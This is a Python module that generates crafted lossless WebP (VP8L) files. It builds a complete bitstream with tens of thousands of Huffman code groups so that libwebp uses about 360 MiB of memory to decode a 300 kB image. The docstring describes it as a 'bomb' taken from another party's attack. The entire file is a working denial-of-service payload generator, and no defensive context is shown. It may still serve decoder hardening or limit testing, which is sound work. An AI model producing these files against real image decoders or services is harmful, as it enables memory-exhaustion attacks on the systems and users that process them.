"""Lossless WebPs (VP8L) that make libwebp build Huffman tables for 65 536 groups of codes: a
1024x1024 picture of 300 kB whose decode holds about 360 MiB (from helper-45's attack)."""

from __future__ import annotations

import struct

# the order in which a normal code's code-length-code lengths are sent
ORDER = [17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15]


class Bits:
    """VP8L's bit writer: least significant bit first."""

    def __init__(self) -> None:
        self.acc, self.n, self.out = 0, 0, bytearray()

    def put(self, value: int, nbits: int) -> None:
        self.acc |= (value & ((1 << nbits) - 1)) << self.n
        self.n += nbits
        while self.n >= 8:
            self.out.append(self.acc & 0xFF)
            self.acc >>= 8
            self.n -= 8

    def put_msb_first(self, value: int, nbits: int) -> None:
        for k in range(nbits - 1, -1, -1):
            self.put((value >> k) & 1, 1)

    def data(self) -> bytes:
        return bytes(self.out) + (bytes([self.acc & 0xFF]) if self.n else b"") + b"\x00" * 8


def one_symbol_code(b: Bits) -> None:
    """A simple code of one symbol (0): no bits a pixel."""
    for value in (1, 0, 0, 0):  # simple, one symbol, a 1-bit symbol, symbol 0
        b.put(value, 1)


def all_eight_bit_code(b: Bits, alphabet: int) -> None:
    """A normal code: symbols 0..255 of length 8, the rest of the alphabet unused."""
    b.put(0, 1)
    b.put(12 - 4, 4)  # 12 code-length-code lengths (up to symbol 8 in ORDER)
    for sym in ORDER[:12]:
        b.put(1 if sym in (0, 8) else 0, 3)
    b.put(0, 1)  # max_symbol: the whole alphabet
    for s in range(alphabet):  # code-length symbol 8 is bit 1, symbol 0 bit 0
        b.put(1 if s < 256 else 0, 1)


def vp8l_bomb(width: int = 1024, height: int = 1024, bits: int = 2, groups: int = 65536) -> bytes:
    """Every entropy-image cell names the next group; every code of every group has one symbol."""
    b = Bits()
    b.put(0x2F, 8)
    b.put(width - 1, 14)
    b.put(height - 1, 14)
    b.put(0, 1)  # no alpha
    b.put(0, 3)  # version 0
    b.put(0, 1)  # no transform
    b.put(0, 1)  # no colour cache
    b.put(1, 1)  # meta prefix codes
    b.put(bits - 2, 3)
    cells = -(-width // (1 << bits)) * -(-height // (1 << bits))
    b.put(0, 1)  # the entropy image: no colour cache; green and red 8 bits, the rest trivial
    all_eight_bit_code(b, 280)
    all_eight_bit_code(b, 256)
    for _ in range(3):
        one_symbol_code(b)
    for i in range(cells):
        group = i % groups
        b.put_msb_first(group & 0xFF, 8)  # green
        b.put_msb_first(group >> 8, 8)    # red
    for _ in range(groups * 5):
        one_symbol_code(b)
    payload = b.data()  # the pixels need no bits
    chunk = b"VP8L" + struct.pack("<I", len(payload)) + payload + (b"\x00" if len(payload) % 2 else b"")
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk
